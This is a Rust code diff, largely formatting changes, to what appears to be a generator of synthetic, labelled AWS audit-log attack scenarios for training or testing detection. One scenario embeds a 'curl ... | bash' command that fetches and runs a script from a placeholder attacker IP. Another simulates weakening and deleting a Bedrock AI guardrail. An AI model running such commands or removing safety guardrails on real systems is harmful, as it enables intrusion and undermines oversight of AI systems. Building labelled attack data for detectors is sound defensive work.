@@ -43,10 +43,23 @@ impl Scenario<'_> {
     }
 }
 
-fn attacker_role(acct: &Account, rng: &mut dyn rand::RngCore, role: &str, session: &str, ua: &str) -> Actor {
+fn attacker_role(
+    acct: &Account,
+    rng: &mut dyn rand::RngCore,
+    role: &str,
+    session: &str,
+    ua: &str,
+) -> Actor {
     Actor {
         account: acct.id.clone(),
-        principal: Principal::Role { role: role.into(), session: session.into(), key: access_key(rng, "ASIA"), ec2: false, issued_to: None, mfa: false },
+        principal: Principal::Role {
+            role: role.into(),
+            session: session.into(),
+            key: access_key(rng, "ASIA"),
+            ec2: false,
+            issued_to: None,
+            mfa: false,
+        },
         source_ip: ATTACKER_IP.into(),
         user_agent: ua.into(),
         vpc_endpoint: None,
@@ -55,14 +68,37 @@ fn attacker_role(acct: &Account, rng: &mut dyn rand::RngCore, role: &str, sessio
 }
 
 /// All attacks for the last day, against the first account (and the ML account where there is one).
-pub fn attacks(rng: &mut impl Rng, accounts: &[Account], day: NaiveDate) -> (Vec<Record>, Vec<Label>) {
+pub fn attacks(
+    rng: &mut impl Rng,
+    accounts: &[Account],
+    day: NaiveDate,
+) -> (Vec<Record>, Vec<Label>) {
     let prod = &accounts[0];
-    let ml = accounts.iter().find(|a| a.name == "ml-platform").unwrap_or(prod);
-    let start = |hour: u32| day.and_hms_opt(hour, 7, 0).expect("valid").and_utc().timestamp_micros();
+    let ml = accounts
+        .iter()
+        .find(|a| a.name == "ml-platform")
+        .unwrap_or(prod);
+    let start = |hour: u32| {
+        day.and_hms_opt(hour, 7, 0)
+            .expect("valid")
+            .and_utc()
+            .timestamp_micros()
+    };
     let mut records = Vec::new();
     let mut labels = Vec::new();
-    let mut run = |rng: &mut dyn rand::RngCore, id: &str, family: &'static str, technique: &'static str, description: &str, acct: &Account, hour: u32, f: &dyn Fn(&mut Scenario<'_>)| {
-        let mut s = Scenario { rng, t: start(hour), records: Vec::new() };
+    let mut run = |rng: &mut dyn rand::RngCore,
+                   id: &str,
+                   family: &'static str,
+                   technique: &'static str,
+                   description: &str,
+                   acct: &Account,
+                   hour: u32,
+                   f: &dyn Fn(&mut Scenario<'_>)| {
+        let mut s = Scenario {
+            rng,
+            t: start(hour),
+            records: Vec::new(),
+        };
         f(&mut s);
         labels.push(Label {
             id: id.into(),
@@ -100,14 +136,41 @@ pub fn attacks(rng: &mut impl Rng, accounts: &[Account], day: NaiveDate) -> (Vec
 
     // 2. Guardrails removed by a compromised developer session.
     let dev = attacker_role(prod, rng, "developer", "bob", BOTO_UA);
-    run(rng, "guardrail-removal", "model-access", "T1562", "A guardrail is weakened, then deleted", prod, 4, &|s| {
-        let gr = format!("arn:aws:bedrock:{MAIN_REGION}:{}:guardrail/gr7x2k9q1m3n", prod.id);
-        s.push(Call::new(&dev, "bedrock.amazonaws.com", "UpdateGuardrail", MAIN_REGION).write().req(json!({"guardrailIdentifier": gr, "name": "chat-safety", "contentPolicyConfig": {"filtersConfig": []}, "blockedInputMessaging": "Sorry.", "blockedOutputsMessaging": "Sorry."})));
-        s.push(Call::new(&dev, "bedrock.amazonaws.com", "DeleteGuardrail", MAIN_REGION).write().req(json!({"guardrailIdentifier": gr})));
-    });
+    run(
+        rng,
+        "guardrail-removal",
+        "model-access",
+        "T1562",
+        "A guardrail is weakened, then deleted",
+        prod,
+        4,
+        &|s| {
+            let gr = format!(
+                "arn:aws:bedrock:{MAIN_REGION}:{}:guardrail/gr7x2k9q1m3n",
+                prod.id
+            );
+            s.push(Call::new(&dev, "bedrock.amazonaws.com", "UpdateGuardrail", MAIN_REGION).write().req(json!({"guardrailIdentifier": gr, "name": "chat-safety", "contentPolicyConfig": {"filtersConfig": []}, "blockedInputMessaging": "Sorry.", "blockedOutputsMessaging": "Sorry."})));
+            s.push(
+                Call::new(
+                    &dev,
+                    "bedrock.amazonaws.com",
+                    "DeleteGuardrail",
+                    MAIN_REGION,
+                )
+                .write()
+                .req(json!({"guardrailIdentifier": gr})),
+            );
+        },
+    );
 
     // 3. SageMaker: a notebook that downloads and runs a script, with internet and root, opened from outside.
-    let sm = attacker_role(ml, rng, "AWSReservedSSO_DataScientist_5c2a9e1b7f3d4a60", "mallory@example.com", BOTO_UA);
+    let sm = attacker_role(
+        ml,
+        rng,
+        "AWSReservedSSO_DataScientist_5c2a9e1b7f3d4a60",
+        "mallory@example.com",
+        BOTO_UA,
+    );
     run(rng, "sagemaker-notebook-backdoor", "model-access", "T1059", "A notebook lifecycle configuration downloads and runs a script; the notebook has internet and root access and is opened from outside", ml, 5, &|s| {
         use base64::Engine;
         let script = base64::engine::general_purpose::STANDARD.encode(format!("#!/bin/bash\ncurl -s http://{ATTACKER_IP}/x.sh | bash\n").as_bytes());
@@ -134,7 +197,14 @@ pub fn attacks(rng: &mut impl Rng, accounts: &[Account], day: NaiveDate) -> (Vec
     });
 
     // 5. Credential misuse: a password spray, root without MFA, keys for another user, secrets harvested.
-    let root = Actor { account: prod.id.clone(), principal: Principal::Root, source_ip: ATTACKER_IP.into(), user_agent: super::activity::CONSOLE_UA.into(), vpc_endpoint: None, console: false };
+    let root = Actor {
+        account: prod.id.clone(),
+        principal: Principal::Root,
+        source_ip: ATTACKER_IP.into(),
+        user_agent: super::activity::CONSOLE_UA.into(),
+        vpc_endpoint: None,
+        console: false,
+    };
     let victim = prod.humans[0].clone();
     let mut sprayer = victim.clone();
     sprayer.source_ip = ATTACKER_IP.into();
